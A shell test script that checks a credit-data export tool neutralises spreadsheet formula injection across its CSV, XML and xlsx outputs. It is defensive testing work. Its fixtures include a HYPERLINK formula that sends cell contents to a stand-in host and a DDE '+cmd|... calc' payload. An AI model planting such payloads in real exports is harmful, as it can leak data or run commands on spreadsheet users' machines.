#!/bin/sh
# Spreadsheet formula injection: text a spreadsheet would run as a formula
# (a cell starting with = + - @, a tab or CR) reaches no CSV cell of any
# channel unneutralised; the CSV cell gets a leading apostrophe, the XML
# keeps the original value, and the xlsx has text cells, never formulas.
. "$(dirname "$0")/lib-export.sh"

# csv_safe DIR: every cell of every CSV under DIR is safe (a plain number
# like -3 is a number, not a formula).
csv_safe() {
	python3 - "$1" <<'PY'
import csv, glob, re, sys
bad = 0
files = glob.glob(sys.argv[1] + "/**/*.csv", recursive=True)
assert files, "no CSV files"
for f in files:
    with open(f, encoding="utf-8-sig", newline="") as fh:
        for row in csv.reader(fh):
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and \
                   not re.fullmatch(r"[-+]?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?", cell):
                    print("%s: unsafe cell %r" % (f, cell))
                    bad += 1
sys.exit(1 if bad else 0)
PY
}

export_all() {
	setup_city && sqlite3 t.db <"$FIXTURES/export/formula.sql" &&
	write_conf ed25519 && mkdir out x &&
	$ECREDIT -q export --as-of $D --out out >/dev/null &&
	for a in out/*.tar.gz; do tar -xzf $a -C x; done
}

check 'no CSV cell of any channel starts a formula' '
	export_all &&
	[ "$(ls x | wc -l)" -eq 5 ] &&
	csv_safe x
'

check 'the CSV has the apostrophe, the XML the original value' '
	export_all &&
	contains x/tax-$D-1/data/ratings.csv "91320500MA1XXXXX4D,\"'"'"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"x\"\")\",2,red" &&
	contains x/tax-$D-1/data/ratings.xml "<name>=HYPERLINK(&quot;http://x&quot;&amp;A1,&quot;x&quot;)</name>" &&
	contains x/tax-$D-1/data/ratings.csv "'"'"'@SUM(A1:A9),'"'"'+张三" &&
	contains x/tax-$D-1/data/ratings.xml "<override_reason>@SUM(A1:A9)</override_reason>" &&
	contains x/finance-$D-1/data/credit.csv ",'"'"'-6 penalty 2026-11-20 [E4]," &&
	contains x/finance-$D-1/data/rating_changes.xml "<cause>+cmd|&#39; /C calc&#39;!A0</cause>" &&
	contains x/public-$D-1/data/revocations.csv ",'"'"'	罚款," &&
	contains x/bureau-$D-1/data/quarantine.csv "'"'"'=cmd"
'

check 'the xlsx files hold text cells, never formulas' '
	export_all &&
	python3 - x <<PY
import glob, sys, zipfile
n = 0
for f in glob.glob(sys.argv[1] + "/*/data/*.xlsx"):
    z = zipfile.ZipFile(f)
    for name in z.namelist():
        if name.startswith("xl/worksheets/"):
            s = z.read(name).decode()
            assert "<f>" not in s, (f, name)
            n += 1
assert n >= 10, n
PY
'

check 'the neutralisation is documented in every README' '
	export_all &&
	for c in tax finance pricing public bureau; do
		contains x/$c-$D-1/data/README.txt "前加一个英文单引号" &&
		contains x/$c-$D-1/data/README.txt "leading apostrophe"
	done
'

done_testing
